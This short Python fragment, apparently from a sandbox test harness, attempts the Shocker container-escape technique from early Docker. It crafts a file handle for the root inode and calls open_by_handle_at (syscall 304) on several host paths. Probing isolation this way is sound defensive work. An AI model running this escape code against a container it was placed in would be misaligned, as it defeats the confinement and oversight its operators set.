# Opens files by handles, as the escape from early Docker.
room = ctypes.create_string_buffer(struct.pack("IiQI", 8, 1, 2, 0), 128)
for folder in ("/", "/proc", "/etc/hostname", "/dev/null", "/usr"):
    attempt(folder, lambda: call(304, os.open(folder, os.O_RDONLY), room, os.O_RDONLY))
